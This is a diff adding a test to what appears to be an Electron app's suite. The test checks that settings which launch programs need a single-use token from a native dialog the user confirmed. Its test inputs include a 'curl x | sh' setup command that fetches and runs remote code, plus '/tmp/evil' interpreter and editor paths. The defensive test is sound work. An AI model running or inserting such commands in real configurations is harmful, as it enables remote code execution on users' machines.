@@ -187,3 +187,63 @@ describe('permissions and senders (#20 item 17, #19 item 11)', () => {
     expect(await main.request(contents, 'app.info', {})).toMatchObject(refused);
   });
 });
+
+describe('settings that run programs need the user’s OK (#19 item 11)', () => {
+  it('config.write of workspace.editor, server.python or workspace.setup is refused without a token from a native dialog the user answered', async () => {
+    const main = await launch();
+    const dashboard = await openDashboard(main);
+    const contents = dashboard.webContents;
+    const editor = ['/usr/local/bin/code', '--wait'];
+    for (const patch of [{ workspace: { editor } }, { server: { python: '/tmp/evil/python3' } }, { workspace: { setup: 'curl x | sh' } }]) {
+      expect(await main.request(contents, 'config.write', { patch })).toMatchObject({
+        ok: false,
+        error: { code: 'CONFIRMATION_REQUIRED' },
+      });
+    }
+    // Asking shows a native message box on our window; declining gives no token.
+    const declined = main.request(contents, 'config.confirm', { key: 'workspace.editor', value: editor });
+    await waitFor('the message box', () => main.world.messageBoxes.length === 1);
+    expect(main.world.messageBoxes[0]?.parent).toBe(dashboard);
+    expect(String(main.world.messageBoxes[0]?.options['detail'])).toContain('/usr/local/bin/code --wait');
+    main.world.messageBoxes[0]?.answer({ response: 0 });
+    expect(await declined).toEqual({ ok: true, data: { token: null } });
+    // Allowing gives a token for that exact value, good once.
+    const allowed = main.request(contents, 'config.confirm', { key: 'workspace.editor', value: editor });
+    await waitFor('the second message box', () => main.world.messageBoxes.length === 2);
+    main.world.messageBoxes[1]?.answer({ response: 1 });
+    const answer = await allowed;
+    const token = (answer.data as { token: string }).token;
+    expect(token).toMatch(/^[0-9a-f]{32}$/);
+    const otherValue = await main.request(contents, 'config.write', {
+      patch: { workspace: { editor: ['/tmp/evil'] } },
+      confirmations: { 'workspace.editor': token },
+    });
+    expect(otherValue).toMatchObject({ ok: false, error: { code: 'CONFIRMATION_REQUIRED' } });
+    // That try spent the token: even the confirmed value needs a new one now.
+    expect(
+      await main.request(contents, 'config.write', { patch: { workspace: { editor } }, confirmations: { 'workspace.editor': token } }),
+    ).toMatchObject({
+      ok: false,
+      error: { code: 'CONFIRMATION_REQUIRED' },
+    });
+    const again = main.request(contents, 'config.confirm', { key: 'workspace.editor', value: editor });
+    await waitFor('the third message box', () => main.world.messageBoxes.length === 3);
+    main.world.messageBoxes[2]?.answer({ response: 1 });
+    const fresh = ((await again).data as { token: string }).token;
+    const wrote = await main.request(contents, 'config.write', {
+      patch: { workspace: { editor } },
+      confirmations: { 'workspace.editor': fresh },
+    });
+    expect(wrote, JSON.stringify(wrote)).toMatchObject({ ok: true });
+    expect(
+      await main.request(contents, 'config.write', { patch: { workspace: { editor } }, confirmations: { 'workspace.editor': fresh } }),
+    ).toMatchObject({
+      ok: false,
+      error: { code: 'CONFIRMATION_REQUIRED' },
+    });
+    // Removing it, and other settings, need nothing.
+    expect(
+      await main.request(contents, 'config.write', { patch: { workspace: { editor: null }, agent: { max_attempts: 3 } } }),
+    ).toMatchObject({ ok: true });
+  });
+});
